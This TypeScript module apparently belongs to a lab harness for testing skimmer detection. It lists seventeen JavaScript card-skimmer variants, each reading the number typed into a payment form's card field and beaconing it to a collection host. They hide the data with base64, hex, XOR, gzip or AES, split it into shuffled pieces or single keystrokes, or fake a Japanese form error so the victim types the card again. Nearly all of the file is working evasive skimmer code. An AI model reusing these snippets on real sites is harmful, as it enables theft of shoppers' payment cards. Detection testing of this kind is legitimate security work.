/** Channels whose disguise is the point: encodings, ciphers, pieces, and a page that fails first. Own encoders, in the page. */
import type { LabChannel } from './channel.ts';

const post = (expression: string): string =>
  `onCard(function(n,all){var d=${expression};navigator.sendBeacon(to+'/c',d);});`;
const hexOf = `function hex(bytes){var t='';for(var i=0;i<bytes.length;i++)t+=('0'+bytes[i].toString(16)).slice(-2);return t;}`;
const bytesOf = 'new TextEncoder().encode(all)';
/** Made ready when the number is typed, since the form does not wait for what is made later. */
const ready = (make: string): string =>
  `var packed=null;var f=document.querySelector('[autocomplete="cc-number"]');f&&f.addEventListener('input',function(){var n=digits();${make}});
onCard(function(){packed&&navigator.sendBeacon(to+'/c',packed);});`;

const ENCODED: readonly LabChannel[] = [
  { name: 'as-base64', how: 'base64', code: post('btoa(all)'), seen: 'plain' },
  { name: 'as-hex', how: 'hexadecimal', code: `${hexOf}${post(`hex(${bytesOf})`)}`, seen: 'plain' },
  {
    name: 'as-url-twice',
    how: 'URL-encoded twice',
    code: post(`'q='+encodeURIComponent(all.replace(/./g,function(c){return '%'+c.charCodeAt(0).toString(16);}))`),
    seen: 'plain',
  },
  {
    name: 'as-codes',
    how: 'character codes',
    code: post(`all.split('').map(function(c){return c.charCodeAt(0);}).join(',')`),
    seen: 'plain',
  },
  {
    name: 'as-reversed',
    how: 'backwards, in base64',
    code: post(`btoa(all.split('').reverse().join(''))`),
    seen: 'plain',
  },
  {
    name: 'as-xor',
    how: 'XOR with a key, in base64',
    code: post(
      `btoa(all.split('').map(function(c,i){return String.fromCharCode(c.charCodeAt(0)^'kumo'.charCodeAt(i%4));}).join(''))`,
    ),
    seen: 'plain',
  },
  {
    name: 'as-gzip',
    how: 'gzip',
    code: ready(
      `new Response(new Blob(['{"n":"'+n+'"}']).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer().then(function(b){packed=new Blob([b]);});`,
    ),
    seen: 'plain',
  },
  {
    name: 'as-grouped',
    how: 'in groups, nested: JSON in base64 in a form',
    code: post(`new URLSearchParams({v:'2',p:btoa(JSON.stringify({k:n.replace(/(.{4})(?=.)/g,'$1 ')}))})`),
    seen: 'plain',
  },
];

const UNREAD: readonly LabChannel[] = [
  {
    name: 'own-alphabet',
    how: 'digits replaced by letters of an own alphabet',
    code: post(`n.replace(/\\d/g,function(d){return 'qz7Kp0Wm3x'[d];})`),
    seen: 'differential',
  },
  {
    name: 'aes-fixed',
    how: 'AES-CBC with a key and a start that stand in the script',
    code: `var key=null;quiet(crypto.subtle&&crypto.subtle.importKey('raw',new Uint8Array(16).fill(9),'AES-CBC',false,['encrypt']).then(function(k){key=k;}));
${ready(`key&&crypto.subtle.encrypt({name:'AES-CBC',iv:new Uint8Array(16)},key,new TextEncoder().encode(n)).then(function(b){packed=new Blob([b]);});`)}`,
    seen: 'differential',
  },
  {
    name: 'large-number',
    how: 'one large number, multiplied',
    code: post(`'v='+(BigInt(n||'0')*7919n).toString(36)`),
    seen: 'differential',
  },
  {
    name: 'aes-by-chance',
    how: 'AES-GCM with a start of chance',
    code: `var key=null;quiet(crypto.subtle&&crypto.subtle.importKey('raw',new Uint8Array(16).fill(9),'AES-GCM',false,['encrypt']).then(function(k){key=k;}));
${ready(`var iv=crypto.getRandomValues(new Uint8Array(12));key&&crypto.subtle.encrypt({name:'AES-GCM',iv:iv},key,new TextEncoder().encode(n)).then(function(b){packed=new Blob([iv,b]);});`)}`,
    seen: { never: 'well encrypted, it cannot be told from chance; its script and its host are in the inventory' },
  },
];

const PIECES: readonly LabChannel[] = [
  {
    name: 'four-requests',
    how: 'four digits in each of four requests',
    code: `onCard(function(n){for(var i=0;i<n.length;i+=4)new Image().src=to+'/q.gif?d='+n.slice(i,i+4);});`,
    seen: 'plain',
  },
  {
    name: 'four-shuffled',
    how: 'four requests, out of order',
    code: `onCard(function(n){[2,0,3,1].forEach(function(i){navigator.sendBeacon(to+'/q',JSON.stringify({part:n.slice(i*4,i*4+4)}));});});`,
    seen: 'plain',
  },
  {
    name: 'digit-by-digit',
    how: 'a request for each digit, with its place, backwards',
    code: `onCard(function(n){for(var i=n.length-1;i>=0;i--)navigator.sendBeacon(to+'/q','i='+i+'&d='+n[i]);});`,
    seen: 'plain',
  },
  {
    name: 'key-by-key',
    how: 'a request for each sign while it is typed',
    code: `var f=document.querySelector('[autocomplete="cc-number"]'),had=0;f&&f.addEventListener('input',function(){
var n=digits();for(;had<n.length;had++)navigator.sendBeacon(to+'/k',n[had]);});`,
    seen: 'plain',
  },
  {
    name: 'error-first',
    how: 'the form fails at first: the card goes away, the genuine page comes after',
    code: `document.addEventListener('submit',function(e){if(sessionStorage.getItem('tried'))return;sessionStorage.setItem('tried','1');
e.preventDefault();e.stopImmediatePropagation();navigator.sendBeacon(to+'/c',digits());
var m=document.querySelector('[data-psp-message]');m&&(m.textContent='エラーが発生しました。もう一度入力してください。');e.target.reset();},true);`,
    seen: 'plain',
    alone: true,
  },
];

export const DISGUISES: readonly LabChannel[] = [...ENCODED, ...UNREAD, ...PIECES];
